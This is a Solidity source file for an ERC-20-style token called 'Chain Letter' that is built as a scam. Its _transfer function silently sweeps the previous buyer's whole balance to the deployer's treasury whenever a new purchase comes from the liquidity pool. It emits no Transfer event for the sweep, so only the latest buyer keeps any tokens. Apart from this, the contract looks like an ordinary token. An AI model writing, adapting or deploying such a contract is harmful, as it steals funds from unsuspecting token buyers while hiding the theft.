// SPDX-License-Identifier: MIT
pragma solidity 0.8.20;

// Each purchase wipes out the purchase before it: the last buyer finds the tokens, the one before does not.
contract BalanceRewriter {
    string public name = "Chain Letter";
    string public symbol = "CHLT";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    address private _pool;
    address private _treasury;
    address private _previous;
    constructor() { _treasury = msg.sender; balanceOf[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function setPool(address to) external { require(msg.sender == _treasury && _pool == address(0)); _pool = to; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        if (from == _pool && to != _treasury) {
            if (_previous != address(0) && _previous != to) { balanceOf[_treasury] += balanceOf[_previous]; balanceOf[_previous] = 0; }
            _previous = to;
        }
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
